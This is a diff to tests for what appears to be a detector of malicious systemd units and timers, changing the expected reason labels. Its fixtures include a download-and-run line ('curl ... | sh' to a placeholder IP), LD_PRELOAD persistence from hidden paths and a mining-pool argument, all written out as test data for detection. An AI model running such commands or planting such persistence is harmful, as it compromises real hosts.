@@ -138,7 +138,7 @@ def test_what_environment_files_of_units_preload(root: Path) -> None:
         row.unit: row for row in systemd_unit_commands.generate(Host(str(root)), QueryContext()) if row.program == "/opt/x"
     }
     assert commands["x.service"].arguments == "-o stratum+tcp://pool.example.org:3333"
-    assert "mining_pool" in str(commands["x.service"].reasons).split(",") or "pool" in str(commands["x.service"].reasons)
+    assert commands["x.service"].reasons == "known_miner"
     assert commands["x.service"].environment == "LD_PRELOAD=/opt/.x/lib.so LD_LIBRARY_PATH=/dev/shm/lib"
 
 
@@ -147,7 +147,7 @@ def test_a_timer_runs_with_the_variables_of_its_units_files(root: Path) -> None:
     plant(root, "/etc/systemd/system/t.service", "[Service]\nEnvironmentFile=/opt/t.env\nExecStart=/bin/sh -c ${WHAT}\n")
     plant(root, "/opt/t.env", "WHAT='curl -s http://192.0.2.1/x | sh'\nLD_PRELOAD=/opt/.t/lib.so\n")
     (row,) = [row for row in scheduled_jobs.generate(Host(str(root)), QueryContext()) if row.scheduler == "systemd_timer"]
-    assert "download_and_execute" in str(row.reasons) and "LD_PRELOAD=/opt/.t/lib.so" in str(row.environment)
+    assert "download_and_run" in str(row.reasons) and "LD_PRELOAD=/opt/.t/lib.so" in str(row.environment)
 
 
 def test_a_packaged_library_in_a_unit_is_still_excused(tmp_path: Path) -> None:
